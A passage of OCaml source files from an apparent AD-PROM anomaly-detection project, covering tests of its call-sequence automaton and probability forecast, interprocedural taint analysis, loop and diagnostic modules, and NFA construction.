  let orig_reach = Analysis.Forecast.reachability orig in
  Alcotest.(check bool)
    "the dropped node was reachable before pruning" true
    (List.for_all (fun id -> List.assoc id orig_reach > 0.0) dead);
  let reach = Analysis.Forecast.reachability pruned in
  Alcotest.(check (float 1e-9))
    "exit reach on the pruned graph" 1.0
    (List.assoc pruned.Cfg.exit reach)

let () =
  Alcotest.run "forecast"
    [
      ( "ctm",
        [
          Alcotest.test_case "add/set/get" `Quick test_ctm_basic;
          Alcotest.test_case "rows, columns, conservation" `Quick test_ctm_rows_columns;
          Alcotest.test_case "eliminate_symbol preserves flow" `Quick
            test_ctm_eliminate_symbol_preserves_flow;
          Alcotest.test_case "map_symbols merges" `Quick test_ctm_map_symbols_merges;
          Alcotest.test_case "to_dense" `Quick test_ctm_to_dense;
          Alcotest.test_case "aggregation with a self pair" `Quick test_aggregate_self_pair;
          Alcotest.test_case "aggregation with recursion" `Quick test_aggregate_recursion;
          Alcotest.test_case "constant-false branch pruned from forecast" `Quick
            test_pruned_branch_excluded;
        ] );
      ( "fig3",
        [
          Alcotest.test_case "Table I: CTM of main()" `Quick test_table1;
          Alcotest.test_case "Table II: CTM of f()" `Quick test_table2;
          Alcotest.test_case "DDG labels exactly the DB-output printf" `Quick test_labeling;
          Alcotest.test_case "pCTM aggregation values" `Quick test_pctm_values;
          Alcotest.test_case "pCTM invariants" `Quick test_pctm_invariants;
          Alcotest.test_case "reachability endpoints" `Quick test_reachability;
        ] );
      ( "properties",
        [ QCheck_alcotest.to_alcotest prop_pctm_conserved ] );
    ]

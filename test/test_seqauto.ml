(* The interprocedural call-sequence automaton (Analysis.Seqauto) and
   its runtime gate: unit tests for factor membership, call-site
   inlining context-sensitivity, loop repetition, branch pruning
   precision, label views and the budget fallback — plus QCheck2
   properties: soundness (every window an interpreter run produces is
   accepted), NFA/DFA agreement, and the enforce gate only rejecting
   windows the reference detector already finds anomalous. *)

module Seqauto = Analysis.Seqauto
module Nfa = Analysis.Nfa
module Dfa = Analysis.Dfa
module Symbol = Analysis.Symbol
module Analyzer = Analysis.Analyzer
module Parser = Applang.Parser
module Scoring = Adprom.Scoring
module Detector = Adprom.Detector
module Window = Adprom.Window
module Pipeline = Adprom.Pipeline
module Profile = Adprom.Profile
module Profile_check = Adprom.Profile_check
module Sessions = Adprom.Sessions
module Daemon = Adprom_service.Daemon
module Replay = Adprom_service.Replay

let build_src ?entry ?(use_labels = true) ?state_budget ?(pruned = true) src =
  let a = Analyzer.analyze ?entry (Parser.parse_program src) in
  let cfgs = if pruned then a.Analyzer.pruned_cfgs else a.Analyzer.cfgs in
  (a, Seqauto.build ?entry ~use_labels ?state_budget cfgs a.Analyzer.callgraph)

let syms names = List.map Symbol.lib names

let check_accepts auto expected names =
  Alcotest.(check bool)
    (String.concat " " names)
    expected
    (Seqauto.accepts auto (syms names))

(* --- factor membership and call-site inlining --------------------------- *)

let interproc_src =
  {|
    fun main() { a_call(); f(); b_call(); f(); c_call(); }
    fun f() { x_call(); }
  |}

let test_factor_basics () =
  let _, auto = build_src interproc_src in
  check_accepts auto true [];
  check_accepts auto true [ "a_call" ];
  check_accepts auto true [ "a_call"; "x_call" ];
  check_accepts auto true [ "x_call"; "b_call" ];
  check_accepts auto true [ "a_call"; "x_call"; "b_call"; "x_call"; "c_call" ];
  (* order matters, and x_call is mandatory between a_call and b_call *)
  check_accepts auto false [ "a_call"; "b_call" ];
  check_accepts auto false [ "b_call"; "a_call" ];
  (* out-of-alphabet symbol *)
  check_accepts auto false [ "zzz_alien" ]

let test_inlining_context_sensitivity () =
  let _, auto = build_src interproc_src in
  Alcotest.(check bool) "inlined, not flat" false auto.Seqauto.stats.Seqauto.flat;
  (* the first f() instance returns to b_call, the second to c_call:
     with per-call-site copies the cross-context factor is rejected *)
  check_accepts auto false [ "a_call"; "x_call"; "c_call" ]

let test_budget_fallback_is_coarser_but_sound () =
  let _, auto = build_src ~state_budget:1 interproc_src in
  Alcotest.(check bool) "flat fallback" true auto.Seqauto.stats.Seqauto.flat;
  (* one shared instance merges the two return points: the
     cross-context factor is now (conservatively) accepted ... *)
  check_accepts auto true [ "a_call"; "x_call"; "c_call" ];
  (* ... and everything genuinely possible stays accepted *)
  check_accepts auto true [ "a_call"; "x_call"; "b_call"; "x_call"; "c_call" ];
  check_accepts auto false [ "b_call"; "a_call" ]

let test_loop_repetition () =
  let _, auto =
    build_src
      {|
        fun main() {
          let v = atoi(gets());
          open_call();
          while (v < 3) { step_call(); v = v + 1; }
          close_call();
        }
      |}
  in
  check_accepts auto true [ "step_call"; "step_call"; "step_call" ];
  check_accepts auto true [ "open_call"; "close_call" ];
  check_accepts auto true [ "open_call"; "step_call"; "step_call"; "close_call" ];
  check_accepts auto false [ "close_call"; "step_call" ];
  check_accepts auto false [ "step_call"; "open_call" ]

let test_pruning_precision () =
  let src =
    {|
      fun main() {
        let flag = 0;
        a_call();
        if (flag == 1) { secret_call(); }
        b_call();
      }
    |}
  in
  let _, pruned = build_src src in
  let _, unpruned = build_src ~pruned:false src in
  (* on the raw CFG the dead arm is still a path ... *)
  Alcotest.(check bool)
    "unpruned accepts the dead call" true
    (Seqauto.accepts unpruned (syms [ "secret_call" ]));
  (* ... the feasibility prepass removes it from the language *)
  Alcotest.(check bool)
    "pruned rejects the dead call" false
    (Seqauto.accepts pruned (syms [ "secret_call" ]));
  check_accepts pruned true [ "a_call"; "b_call" ]

let test_label_views () =
  let src =
    {|
      fun main() {
        let c = db_connect("pg");
        let r = pq_exec(c, "SELECT name FROM t");
        printf("%s", pq_getvalue(r, 0, 0));
        done_call();
      }
    |}
  in
  let _, labeled = build_src src in
  let _, stripped = build_src ~use_labels:false src in
  Alcotest.(check bool)
    "labeled view has a DB-output symbol" true
    (List.exists Symbol.is_labeled labeled.Seqauto.nfa.Nfa.alphabet);
  Alcotest.(check bool)
    "stripped view has none" false
    (List.exists Symbol.is_labeled stripped.Seqauto.nfa.Nfa.alphabet);
  (* the dynamic taint decides labels at runtime, so the labeled view
     accepts both spellings of the sink *)
  Alcotest.(check bool)
    "plain printf accepted" true
    (Seqauto.accepts labeled (syms [ "pq_getvalue"; "printf"; "done_call" ]));
  let labeled_printf =
    List.find Symbol.is_labeled labeled.Seqauto.nfa.Nfa.alphabet
  in
  Alcotest.(check bool)
    "labeled printf accepted" true
    (Seqauto.accepts labeled [ Symbol.lib "pq_getvalue"; labeled_printf ])

(* --- QCheck properties --------------------------------------------------- *)

(* Random structured programs with input-driven branching: the static
   pass cannot fold `v` away, the interpreter picks arms per input. *)
let random_program seed =
  let rng = Mlkit.Rng.create seed in
  let pool = [| "lib_a"; "lib_b"; "lib_c"; "printf"; "puts" |] in
  let rec stmts depth budget =
    if budget <= 0 then []
    else
      let s =
        match Mlkit.Rng.int rng (if depth > 2 then 3 else 6) with
        | 0 | 1 -> Printf.sprintf "%s(\"x\");" (Mlkit.Rng.pick rng pool)
        | 2 -> "v = v + 1;"
        | 3 ->
            Printf.sprintf "if (v > %d) { %s } else { %s }" (Mlkit.Rng.int rng 4)
              (String.concat " " (stmts (depth + 1) (budget / 2)))
              (String.concat " " (stmts (depth + 1) (budget / 2)))
        | 4 ->
            Printf.sprintf "if (v == %d) { %s }" (Mlkit.Rng.int rng 4)
              (String.concat " " (stmts (depth + 1) (budget / 2)))
        | _ ->
            Printf.sprintf "while (v < %d) { %s v = v + 1; }" (Mlkit.Rng.int rng 4)
              (String.concat " " (stmts (depth + 1) (budget / 2)))
      in
      s :: stmts depth (budget - 1)
  in
  let main =
    "fun main() { let v = atoi(gets()); "
    ^ String.concat " " (stmts 0 5)
    ^ " helper(); "
    ^ String.concat " " (stmts 0 2)
    ^ " }"
  in
  let helper =
    "fun helper() { let v = atoi(gets()); " ^ String.concat " " (stmts 0 3) ^ " }"
  in
  main ^ "\n" ^ helper

let run_trace analysis inputs =
  let engine = Sqldb.Engine.create () in
  let tc = Runtime.Testcase.make ~input:inputs "seqauto-prop" in
  let trace, _outcome = Runtime.Interp.collect_trace ~analysis ~engine tc in
  Array.to_list
    (Array.map (fun (e : Runtime.Collector.event) -> e.Runtime.Collector.symbol) trace)

(* Soundness: whatever sequence a run actually emits — and therefore
   every window of it — is in the automaton's factor language. *)
let prop_trace_soundness =
  QCheck2.Test.make ~name:"interpreter traces are accepted (soundness)" ~count:60
    QCheck2.Gen.(pair (int_range 0 10_000) (int_bound 5))
    (fun (seed, input) ->
      let src = random_program seed in
      let a = Analyzer.analyze (Parser.parse_program src) in
      let auto =
        Seqauto.build a.Analyzer.pruned_cfgs a.Analyzer.callgraph
      in
      let word =
        run_trace a [ string_of_int input; string_of_int (5 - input) ]
      in
      let sub =
        (* an arbitrary inner factor must be accepted too *)
        let n = List.length word in
        if n <= 2 then word
        else List.filteri (fun i _ -> i >= 1 && i < n - 1) word
      in
      Seqauto.accepts auto word && Seqauto.accepts auto sub)

(* The minimized DFA agrees with the NFA it was compiled from, on and
   off the alphabet. *)
let prop_nfa_dfa_agree =
  QCheck2.Test.make ~name:"DFA agrees with NFA on random words" ~count:40
    QCheck2.Gen.(
      triple (int_range 0 10_000) (int_range 1 1000)
        (list_size (int_range 0 8) (int_range 0 20)))
    (fun (seed, wseed, picks) ->
      let src = random_program seed in
      let a = Analyzer.analyze (Parser.parse_program src) in
      let auto = Seqauto.build a.Analyzer.pruned_cfgs a.Analyzer.callgraph in
      let alpha = Array.of_list (Seqauto.(auto.nfa).Nfa.alphabet) in
      let m = Array.length alpha in
      let word =
        List.map
          (fun p ->
            (* every ~7th pick is an out-of-alphabet symbol *)
            if (p + wseed) mod 7 = 0 then Symbol.lib "zzz_alien"
            else alpha.((p + wseed) mod max 1 m))
          picks
      in
      Nfa.accepts_factor Seqauto.(auto.nfa) word
      = Dfa.accepts_factor Seqauto.(auto.dfa) word)

(* --- the runtime gate on a trained profile ------------------------------- *)

let fixture =
  lazy
    (let app =
       {
         Pipeline.name = "seqauto";
         source =
           {|
             fun main() {
               let db = db_connect("pg");
               let n = atoi(gets());
               for (let i = 0; i < n; i = i + 1) {
                 let r = pq_exec(db, "SELECT name FROM t");
                 let k = pq_ntuples(r);
                 for (let j = 0; j < k; j = j + 1) { printf("%s\n", pq_getvalue(r, j, 0)); }
               }
             }
           |};
         dbms = "PostgreSQL";
         setup_db =
           (fun e ->
             ignore (Sqldb.Engine.exec e "CREATE TABLE t (name)");
             ignore (Sqldb.Engine.exec e "INSERT INTO t VALUES ('a'), ('b')"));
         test_cases =
           List.init 8 (fun i ->
               Runtime.Testcase.make
                 ~input:[ string_of_int (1 + (i mod 4)) ]
                 (Printf.sprintf "c%d" i));
       }
     in
     let ds = Pipeline.collect app in
     let profile = Pipeline.train ds in
     (ds, profile, Profile_check.automaton profile ds.Pipeline.analysis))

(* Tampered real windows: position 0 gets an unknown caller (so the
   reference detector is guaranteed to find the window anomalous), and
   some observations are swapped for other alphabet symbols (so some
   windows leave the static language). The enforce gate must reject
   only reference-anomalous windows, and agree with the reference
   verdict whenever the DFA accepts. *)
let prop_enforce_subset_of_anomalous =
  QCheck2.Test.make
    ~name:"enforce-rejected windows are reference-anomalous" ~count:80
    QCheck2.Gen.(
      triple (int_bound 7) (int_bound 1000)
        (list_size (int_range 0 6) (pair (int_bound 30) (int_bound 30))))
    (fun (tidx, salt, swaps) ->
      let ds, profile, auto = Lazy.force fixture in
      let trace = snd (List.nth ds.Pipeline.traces (tidx mod List.length ds.Pipeline.traces)) in
      let window = profile.Profile.params.Profile.window in
      match Window.of_trace ~window trace with
      | [] -> true
      | ws ->
          let w = List.nth ws (salt mod List.length ws) in
          let obs = Array.copy w.Window.obs in
          let callers = Array.copy w.Window.callers in
          let alpha = profile.Profile.alphabet in
          List.iter
            (fun (pos, sym) ->
              obs.(pos mod Array.length obs) <-
                Symbol.observable alpha.(sym mod Array.length alpha))
            swaps;
          callers.(0) <- "intruder";
          let w' = { Window.obs; callers } in
          let eng = Scoring.create profile in
          Scoring.set_static_dfa eng (Some auto);
          Scoring.set_gate_enforce eng true;
          let live = Scoring.classify eng w' in
          let ref_ = Detector.reference_classify profile w' in
          if Seqauto.accepts auto (Array.to_list obs) then
            (* gate lets it through: bit-for-bit the reference verdict *)
            live.Detector.flag = ref_.Detector.flag
            && live.Detector.score = ref_.Detector.score
          else
            (* gate rejects: both sides must call it anomalous *)
            Scoring.gate_rejections eng > 0
            && live.Detector.flag <> Detector.Normal
            && ref_.Detector.flag <> Detector.Normal)

(* On real traces the gate never fires (soundness), so explain mode is
   verdict-identical to off, and enforce still reproduces batch
   detection exactly. *)
let flags_of_summary (s : Daemon.summary) =
  List.map
    (fun (r : Daemon.session_report) ->
      (r.Daemon.session, List.map (fun v -> v.Detector.flag) r.Daemon.verdicts))
    s.Daemon.sessions

let test_replay_explain_identical () =
  let ds, profile, _ = Lazy.force fixture in
  let rng = Mlkit.Rng.create 7 in
  let stream = Sessions.interleave ~rng (List.map snd ds.Pipeline.traces) in
  let run gate =
    Replay.run ~shards:2 ~vet_against:ds.Pipeline.analysis ~static_gate:gate
      profile stream
  in
  let off = run Daemon.Gate_off in
  let explain = run Daemon.Gate_explain in
  Alcotest.(check bool)
    "explain verdicts = off verdicts" true
    (flags_of_summary off.Replay.summary = flags_of_summary explain.Replay.summary)

let test_replay_enforce_matches_batch () =
  let ds, profile, _ = Lazy.force fixture in
  let rng = Mlkit.Rng.create 11 in
  let stream = Sessions.interleave ~rng (List.map snd ds.Pipeline.traces) in
  let outcome =
    Replay.run ~shards:2 ~vet_against:ds.Pipeline.analysis
      ~static_gate:Daemon.Gate_enforce profile stream
  in
  let mismatches = Replay.verify_against_batch profile stream outcome.Replay.summary in
  Alcotest.(check int) "no divergence from batch detection" 0
    (List.length mismatches)

let () =
  Alcotest.run "seqauto"
    [
      ( "automaton",
        [
          Alcotest.test_case "factor membership" `Quick test_factor_basics;
          Alcotest.test_case "call-site inlining is context-sensitive" `Quick
            test_inlining_context_sensitivity;
          Alcotest.test_case "budget fallback is coarser but sound" `Quick
            test_budget_fallback_is_coarser_but_sound;
          Alcotest.test_case "loops repeat" `Quick test_loop_repetition;
          Alcotest.test_case "pruned branches leave the language" `Quick
            test_pruning_precision;
          Alcotest.test_case "label views" `Quick test_label_views;
        ] );
      ( "properties",
        [
          QCheck_alcotest.to_alcotest prop_trace_soundness;
          QCheck_alcotest.to_alcotest prop_nfa_dfa_agree;
          QCheck_alcotest.to_alcotest prop_enforce_subset_of_anomalous;
        ] );
      ( "gate",
        [
          Alcotest.test_case "replay: explain is verdict-identical to off" `Quick
            test_replay_explain_identical;
          Alcotest.test_case "replay: enforce reproduces batch detection" `Quick
            test_replay_enforce_matches_batch;
        ] );
    ]

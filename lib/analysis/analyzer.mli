(** The Analyzer component (Sec. IV-B1): everything AD-PROM derives
    statically from a program, bundled. *)

type t = {
  program : Applang.Ast.program;
  cfgs : (string * Cfg.t) list;
  callgraph : Callgraph.t;
  sites : Cfg.Sites.sites;  (** call expression -> block id *)
  taint : Taint.result;  (** DB-output labeling *)
  pruned_cfgs : (string * Cfg.t) list;
      (** {!Prune}d graphs (dead branch arms removed); share the
          original node records, so taint labels show through *)
  pruning : Prune.report list;  (** what the feasibility prepass removed *)
  ctms : (string * Ctm.t) list;
      (** per-function CTMs, post labeling, on the pruned graphs *)
  pctm : Ctm.t;  (** aggregated program CTM *)
}

val analyze : ?entry:string -> Applang.Ast.program -> t
(** Full static phase: CFGs, call graph, taint labeling, branch
    feasibility pruning, probability forecast (on the pruned graphs),
    aggregation. [entry] defaults to ["main"].
    @raise Invalid_argument when [entry] is not defined. *)

val labeled_block : t -> int -> bool
(** Was this block id marked as a DB-output site? *)

val block_of_call : t -> Applang.Ast.expr -> int option
(** Block id of a (physical) [Call] sub-expression of the program. *)

val alphabet : t -> Symbol.t list
(** Observable symbols of the pCTM (no Entry/Exit), sorted. *)

module Ast = Applang.Ast
module Libspec = Applang.Libspec
module SS = Set.Make (String)

type summary = { const_taint : bool; param_taint : bool array }

type result = {
  labeled_blocks : int list;
  summaries : (string * summary) list;
  entry_taint : (string * bool array) list;
}

let rec expr_taint ?(lib_taint = Libspec.taint_of) ~tainted ~summary_of (e : Ast.expr) =
  let sub x = expr_taint ~lib_taint ~tainted ~summary_of x in
  match e with
  | Ast.Int _ | Ast.Str _ | Ast.Bool _ | Ast.Null -> false
  | Ast.Var v -> tainted v
  | Ast.Binop (_, a, b) -> sub a || sub b
  | Ast.Unop (_, a) -> sub a
  | Ast.Index (a, b) -> sub a || sub b
  | Ast.Call (name, args) -> (
      match summary_of name with
      | Some s ->
          let rec arg_taint i = function
            | [] -> false
            | a :: rest ->
                (i < Array.length s.param_taint && s.param_taint.(i) && sub a)
                || arg_taint (i + 1) rest
          in
          s.const_taint || arg_taint 0 args
      | None -> (
          match lib_taint name with
          | Libspec.Source -> true
          | Libspec.Propagate -> List.exists sub args
          | Libspec.Clean -> false))

(* Fixpoint state of the interprocedural analysis. *)
type state = {
  summaries : (string, summary) Hashtbl.t;
  (* actual may-taint of each function's parameters, joined over all
     call sites seen so far *)
  entry_taint : (string, bool array) Hashtbl.t;
  lib_taint : string -> Libspec.taint_kind;
}

let summary_of state name = Hashtbl.find_opt state.summaries name

(* The may-taint environment lattice: sets of tainted variables. *)
module Env = struct
  type t = SS.t

  let bottom = SS.empty
  let join = SS.union
  let equal = SS.equal
end

module Flow = Dataflow.Make (Env)

(* Dataflow over one CFG given the taint of its parameters. Back edges
   participate so loop-carried taint converges. Unreachable nodes keep
   the bottom (empty) environment, matching the engine's view. *)
let intra state (cfg : Cfg.t) (entry_env : SS.t) =
  let transfer (n : Cfg.node) env =
    match n.Cfg.event with
    | Cfg.E_bind (x, e) ->
        let tainted v = SS.mem v env in
        if expr_taint ~lib_taint:state.lib_taint ~tainted ~summary_of:(summary_of state) e
        then SS.add x env
        else SS.remove x env
    | Cfg.E_entry | Cfg.E_exit | Cfg.E_call _ | Cfg.E_cond _ | Cfg.E_return _ | Cfg.E_join ->
        env
  in
  Flow.solve cfg ~entry:entry_env ~transfer

(* May a tainted value be returned under the solved environments? *)
let returns_taint state (cfg : Cfg.t) sol =
  List.exists
    (fun id ->
      match (Cfg.node cfg id).Cfg.event with
      | Cfg.E_return (Some e) ->
          let env = Flow.input sol id in
          expr_taint ~lib_taint:state.lib_taint
            ~tainted:(fun v -> SS.mem v env)
            ~summary_of:(summary_of state) e
      | Cfg.E_return None | Cfg.E_entry | Cfg.E_exit | Cfg.E_call _ | Cfg.E_bind _
      | Cfg.E_cond _ | Cfg.E_join ->
          false)
    (Cfg.node_ids cfg)

let env_of_params (cfg : Cfg.t) flags =
  List.fold_left
    (fun (env, i) p -> ((if i < Array.length flags && flags.(i) then SS.add p env else env), i + 1))
    (SS.empty, 0) cfg.Cfg.params
  |> fst

let summary_equal a b =
  a.const_taint = b.const_taint && a.param_taint = b.param_taint

let analyze ?(per_arg = true) ?(lib_taint = Libspec.taint_of) ?(label_sinks = true) cfgs =
  let state =
    { summaries = Hashtbl.create 16; entry_taint = Hashtbl.create 16; lib_taint }
  in
  List.iter
    (fun (name, cfg) ->
      let n = List.length cfg.Cfg.params in
      Hashtbl.replace state.summaries name
        { const_taint = false; param_taint = Array.make n false };
      Hashtbl.replace state.entry_taint name (Array.make n false))
    cfgs;
  let changed = ref true in
  let update_summary name s =
    if not (summary_equal (Hashtbl.find state.summaries name) s) then begin
      Hashtbl.replace state.summaries name s;
      changed := true
    end
  in
  (* Propagate taint from a caller's dataflow into callee parameter
     assumptions. *)
  let propagate_call_sites (cfg : Cfg.t) sol =
    List.iter
      (fun (id, site) ->
        if site.Cfg.is_user then begin
          match Hashtbl.find_opt state.entry_taint site.Cfg.callee with
          | None -> ()
          | Some flags ->
              let env = Flow.input sol id in
              let tainted v = SS.mem v env in
              List.iteri
                (fun i arg ->
                  if
                    i < Array.length flags && (not flags.(i))
                    && expr_taint ~lib_taint:state.lib_taint ~tainted
                         ~summary_of:(summary_of state) arg
                  then begin
                    flags.(i) <- true;
                    changed := true
                  end)
                site.Cfg.args
        end)
      (Cfg.call_nodes cfg)
  in
  while !changed do
    changed := false;
    List.iter
      (fun (name, cfg) ->
        let nparams = List.length cfg.Cfg.params in
        let const_taint =
          returns_taint state cfg (intra state cfg SS.empty)
        in
        let param_taint =
          if per_arg then
            (* Each bit in isolation: taint is a disjunctive reachability
               property, so single-parameter runs compose exactly. *)
            Array.init nparams (fun i ->
                let flags = Array.make nparams false in
                flags.(i) <- true;
                returns_taint state cfg (intra state cfg (env_of_params cfg flags)))
          else
            let all =
              returns_taint state cfg
                (intra state cfg (env_of_params cfg (Array.make nparams true)))
            in
            Array.make nparams all
        in
        update_summary name { const_taint; param_taint };
        let actual = Hashtbl.find state.entry_taint name in
        propagate_call_sites cfg (intra state cfg (env_of_params cfg actual)))
      cfgs
  done;
  (* Final labeling pass under the converged actual assumptions. *)
  let labeled = ref [] in
  if label_sinks then
  List.iter
    (fun (_name, cfg) ->
      let actual = Hashtbl.find state.entry_taint cfg.Cfg.func in
      let sol = intra state cfg (env_of_params cfg actual) in
      List.iter
        (fun (id, site) ->
          site.Cfg.label <- None;
          if Libspec.is_sink site.Cfg.callee then begin
            let env = Flow.input sol id in
            let tainted v = SS.mem v env in
            if
              List.exists
                (expr_taint ~lib_taint:state.lib_taint ~tainted
                   ~summary_of:(summary_of state))
                site.Cfg.args
            then begin
              site.Cfg.label <- Some id;
              labeled := id :: !labeled
            end
          end)
        (Cfg.call_nodes cfg))
    cfgs;
  {
    labeled_blocks = List.sort compare !labeled;
    summaries =
      Hashtbl.fold (fun name s acc -> (name, s) :: acc) state.summaries []
      |> List.sort compare;
    entry_taint =
      Hashtbl.fold (fun name a acc -> (name, a) :: acc) state.entry_taint []
      |> List.sort compare;
  }

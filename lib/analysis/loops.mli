(** Natural loops of a {!Cfg}.

    The CFG construction stores every loop back edge on the side
    ([Cfg.back_edges]) to keep the static graph acyclic; this module
    puts them back and recovers the loop structure: for each back edge
    [(latch, header)] whose header dominates its latch, the natural
    loop is the header plus every node that reaches the latch without
    passing through the header. Back edges sharing a header merge into
    one loop (as [while] bodies with [continue] do).

    Used by {!Vet} to flag loops whose every exit edge is statically
    dead ([while (true)] with no reachable [break]). *)

type loop = {
  header : int;  (** the loop-condition node the back edges return to *)
  latches : int list;  (** sources of the back edges, ascending *)
  body : int list;  (** all loop nodes including header and latches, ascending *)
  exits : (int * int) list;
      (** edges leaving the loop: (inside node, outside successor) *)
}

val analyze : Cfg.t -> loop list
(** Loops in ascending header order. Irreducible back edges (header not
    dominating the latch — impossible for CFGs built by {!Cfg_build})
    are skipped. *)

val loop_of : loop list -> int -> loop option
(** Innermost… there is no nesting information here: the first loop
    whose body contains the node, headers ascending. *)

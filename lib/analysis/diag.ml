type severity = Error | Warning | Hint

type t = {
  severity : severity;
  code : string;
  func : string;
  block : int option;
  message : string;
}

let make ?(func = "") ?block severity ~code message =
  { severity; code; func; block; message }

let severity_to_string = function Error -> "error" | Warning -> "warning" | Hint -> "hint"

let severity_rank = function Error -> 0 | Warning -> 1 | Hint -> 2

(* Position first so a report reads like the source: program-level
   findings ([func = ""]) lead, then per-function findings grouped by
   function and block. Code before severity keeps one defect class
   contiguous within a block. *)
let compare a b =
  let c = Stdlib.compare a.func b.func in
  if c <> 0 then c
  else
    let c = Stdlib.compare a.block b.block in
    if c <> 0 then c
    else
      let c = Stdlib.compare a.code b.code in
      if c <> 0 then c
      else
        let c = Stdlib.compare (severity_rank a.severity) (severity_rank b.severity) in
        if c <> 0 then c else Stdlib.compare a.message b.message

let errors l = List.filter (fun d -> d.severity = Error) l
let warnings l = List.filter (fun d -> d.severity = Warning) l
let hints l = List.filter (fun d -> d.severity = Hint) l

let anchor d =
  match (d.func, d.block) with
  | "", None -> ""
  | f, None -> Printf.sprintf " %s:" f
  | "", Some b -> Printf.sprintf " #%d:" b
  | f, Some b -> Printf.sprintf " %s#%d:" f b

let to_string d =
  Printf.sprintf "%s[%s]%s %s" (severity_to_string d.severity) d.code (anchor d) d.message

let to_json d =
  let module J = Adprom_obs.Json in
  J.obj
    [
      ("severity", J.string (severity_to_string d.severity));
      ("code", J.string d.code);
      ("func", J.string d.func);
      ("block", (match d.block with Some b -> string_of_int b | None -> "null"));
      ("message", J.string d.message);
    ]

let summary l =
  let e = List.length (errors l)
  and w = List.length (warnings l)
  and h = List.length (hints l) in
  if e = 0 && w = 0 && h = 0 then "clean"
  else
    let plural n word = Printf.sprintf "%d %s%s" n word (if n = 1 then "" else "s") in
    List.filter_map
      (fun (n, word) -> if n = 0 then None else Some (plural n word))
      [ (e, "error"); (w, "warning"); (h, "hint") ]
    |> String.concat ", "

module SS = Set.Make (String)

type stats = {
  functions : int;
  nfa_states : int;
  nfa_transitions : int;
  dfa_states : int;
  dfa_width : int;
  flat : bool;
}

type t = {
  nfa : Nfa.t;
  dfa : Dfa.t;
  entry : string;
  use_labels : bool;
  stats : stats;
}

exception Budget

(* Symbols an edge into [w] carries: the observable call symbol for a
   library-call node (plus the unlabeled variant for DB-output sites —
   the dynamic taint only labels a sink when tainted data actually
   reaches it), nothing (ε) otherwise. *)
let symbols_into cfg w =
  match Cfg.call_of_node cfg w with
  | Some site when not site.Cfg.is_user ->
      let s = Symbol.observable (Cfg.symbol_of_site ~id:w site) in
      if site.Cfg.label <> None then [ s; Symbol.strip_label s ] else [ s ]
  | Some _ | None -> []

(* Outgoing edges of a node: the DAG successors plus the recorded loop
   back edges (at runtime a loop body repeats). *)
let out_edges (cfg : Cfg.t) v =
  Cfg.successors cfg v
  @ List.filter_map (fun (src, dst) -> if src = v then Some dst else None)
      cfg.Cfg.back_edges

(* Lay one function body onto fresh states. [io] gives the (entry,
   exit) states this instance must use; [resolve] yields the callee
   instance for a user call. *)
let lay_function b cfgs ~budget name ~io:(entry_state, exit_state) ~resolve =
  let cfg = List.assoc name cfgs in
  let state_of = Hashtbl.create 32 in
  Hashtbl.replace state_of cfg.Cfg.entry entry_state;
  if Hashtbl.mem cfg.Cfg.nodes cfg.Cfg.exit then
    Hashtbl.replace state_of cfg.Cfg.exit exit_state;
  let state v =
    match Hashtbl.find_opt state_of v with
    | Some s -> s
    | None ->
        if Nfa.built_states b > budget then raise Budget;
        let s = Nfa.fresh b in
        Hashtbl.replace state_of v s;
        s
  in
  let connect src w =
    match symbols_into cfg w with
    | [] -> Nfa.add_eps b src (state w)
    | syms -> List.iter (fun sym -> Nfa.add_sym b src sym (state w)) syms
  in
  List.iter
    (fun v ->
      let outs = out_edges cfg v in
      match Cfg.call_of_node cfg v with
      | Some site when site.Cfg.is_user && List.mem_assoc site.Cfg.callee cfgs ->
          (* route through the callee: enter at the call, return to
             every successor of the site *)
          let ge, gx = resolve site.Cfg.callee in
          Nfa.add_eps b (state v) ge;
          List.iter (fun w -> connect gx w) outs
      | _ -> List.iter (fun w -> connect (state v) w) outs)
    (Cfg.node_ids cfg)

let live_funcs ~entry cfgs cg =
  if not (List.mem_assoc entry cfgs) then
    List.fold_left (fun acc (n, _) -> SS.add n acc) SS.empty cfgs
  else begin
    let seen = ref (SS.singleton entry) in
    let work = Queue.create () in
    Queue.add entry work;
    while not (Queue.is_empty work) do
      let f = Queue.pop work in
      List.iter
        (fun g ->
          if List.mem_assoc g cfgs && not (SS.mem g !seen) then begin
            seen := SS.add g !seen;
            Queue.add g work
          end)
        (Callgraph.callees cg f)
    done;
    !seen
  end

(* Instantiate the SCC cluster containing [name]: one shared (entry,
   exit) pair per member, intra-SCC calls wired to the shared states
   (conservative recursion collapse), calls into lower SCCs freshly
   inlined. Returns the member io map. *)
let rec instantiate_cluster b cfgs ~budget ~scc_of name =
  let members = scc_of name in
  let io = List.map (fun m -> (m, (Nfa.fresh b, Nfa.fresh b))) members in
  List.iter
    (fun m ->
      lay_function b cfgs ~budget m ~io:(List.assoc m io) ~resolve:(fun g ->
          match List.assoc_opt g io with
          | Some gio -> gio
          | None -> List.assoc g (instantiate_cluster b cfgs ~budget ~scc_of g)))
    members;
  io

(* The linear-size fallback: every live function gets exactly one
   shared instance — equivalent to treating the whole program as a
   single cluster. *)
let build_flat cfgs live ~entry =
  let b = Nfa.create_builder () in
  let names = List.filter (fun (n, _) -> SS.mem n live) cfgs |> List.map fst in
  let io = List.map (fun m -> (m, (Nfa.fresh b, Nfa.fresh b))) names in
  List.iter
    (fun m ->
      lay_function b cfgs ~budget:max_int m ~io:(List.assoc m io)
        ~resolve:(fun g -> List.assoc g io))
    names;
  let start =
    match List.assoc_opt entry io with
    | Some (e, _) -> e
    | None ->
        (* no entry function: every function is a root *)
        let root = Nfa.fresh b in
        List.iter (fun (_, (e, _)) -> Nfa.add_eps b root e) io;
        root
  in
  Nfa.finish b ~start

let build_inlined cfgs live ~entry ~scc_of ~budget =
  if not (List.mem_assoc entry cfgs) then raise Budget
  else begin
    let b = Nfa.create_builder () in
    let io = instantiate_cluster b cfgs ~budget ~scc_of entry in
    ignore live;
    Nfa.finish b ~start:(fst (List.assoc entry io))
  end

let build ?(entry = "main") ?(use_labels = true) ?(state_budget = 20_000) cfgs cg =
  let live = live_funcs ~entry cfgs cg in
  let scc_of =
    let sccs = Callgraph.sccs cg in
    fun name ->
      match List.find_opt (fun c -> List.mem name c) sccs with
      | Some c -> List.filter (fun m -> List.mem_assoc m cfgs) c
      | None -> [ name ]
  in
  let nfa, flat =
    match build_inlined cfgs live ~entry ~scc_of ~budget:state_budget with
    | nfa -> (nfa, false)
    | exception Budget -> (build_flat cfgs live ~entry, true)
  in
  let nfa = Nfa.restrict_reachable nfa in
  let nfa = if use_labels then nfa else Nfa.map_symbols Symbol.strip_label nfa in
  let dfa = Dfa.of_nfa nfa in
  {
    nfa;
    dfa;
    entry;
    use_labels;
